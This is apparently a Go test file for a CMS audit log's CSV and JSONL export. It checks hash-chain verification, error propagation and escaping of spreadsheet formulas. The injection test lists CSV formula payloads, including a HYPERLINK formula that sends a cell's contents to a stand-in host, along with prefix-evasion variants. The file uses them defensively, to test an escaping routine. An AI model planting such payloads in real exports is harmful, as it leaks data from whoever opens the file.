package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/prassi-cms/prassi/audit"
)

func TestExport(t *testing.T) {
	s := sqlite(t)
	l := chains(t, s)
	wait(t, s) // an entry of somebody who died
	var table, lines bytes.Buffer
	must(t, audit.WriteCSV(&table, l.Walk(t.Context())))
	must(t, audit.WriteJSONL(&lines, l.Walk(t.Context())))

	rows, err := csv.NewReader(&table).ReadAll()
	must(t, err)
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	if len(rows) != 1+9 || len(column) != len(audit.CSVHeader) {
		t.Fatalf("%d rows, columns %v", len(rows), rows[0])
	}
	i := 1
	prev := map[string]string{}
	for line := range strings.Lines(lines.String()) {
		var e audit.Entry
		must(t, json.Unmarshal([]byte(line), &e))
		// Whoever holds the file can check it.
		if e.Hash != e.ComputeHash() || e.Prev != prev[e.Subject] {
			t.Errorf("line %d does not verify", i)
		}
		prev[e.Subject] = e.Hash
		for name, want := range map[string]string{
			"subject": e.Subject, "action": e.Action, "actor": "person:anna", "role": e.Details["role"], "scope": e.Details["scope"],
			"via": "session", "trace": "20260331-abc", "hash": e.Hash, "prev": e.Prev, "at": e.At.Format("2006-01-02T15:04:05.000Z"),
		} {
			if got := rows[i][column[name]]; got != want {
				t.Errorf("row %d: %s is %q, want %q", i, name, got, want)
			}
		}
		i++
	}
	if i != len(rows) {
		t.Errorf("%d lines, %d rows", i-1, len(rows)-1)
	}
}

// A value that a spreadsheet would carry out arrives as text, whatever field it
// is in.
func TestExportInjection(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \u00a0=1", "＝1", "\ufeff=1",
	} {
		e := audit.Entry{
			Subject: evil, Actor: evil, OnBehalfOf: evil, Grant: evil, Via: evil, Trace: evil, Action: evil,
			Details: map[string]string{}, Prev: evil, Hash: evil,
		}
		for _, key := range audit.DetailKeys {
			e.Details[key] = evil
		}
		var b bytes.Buffer
		must(t, audit.WriteCSV(&b, audit.Each([]audit.Entry{e})))
		rows, err := csv.NewReader(&b).ReadAll()
		must(t, err)
		for i, cell := range rows[1] {
			name := audit.CSVHeader[i]
			if want := "'" + strings.ReplaceAll(evil, "\r\n", "\n"); name != "number" && name != "at" && cell != want {
				t.Errorf("%q: column %s holds %q", evil, name, cell)
			}
		}
	}
}

// An error of the ledger ends the export with it.
func TestExportFails(t *testing.T) {
	s := sqlite(t)
	chains(t, s)
	overwrite(t, s, "audit", place(3), func(d []byte) []byte { return d[1:] })
	l := audit.New(s, nil)
	for name, err := range map[string]error{
		"CSV":  audit.WriteCSV(&bytes.Buffer{}, l.Walk(t.Context())),
		"JSON": audit.WriteJSONL(&bytes.Buffer{}, l.Walk(t.Context())),
		"dead": audit.WriteJSONL(&bytes.Buffer{}, audit.New(&mortal{Records: s, left: 1}, nil).Walk(t.Context())),
		"full": audit.WriteCSV(full{}, audit.Each(make([]audit.Entry, 100))),
		"gone": audit.WriteJSONL(full{}, audit.Each(make([]audit.Entry, 1))),
	} {
		if err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	// Stopping early is none.
	for range l.Walk(t.Context()) {
		break
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("no space left") }
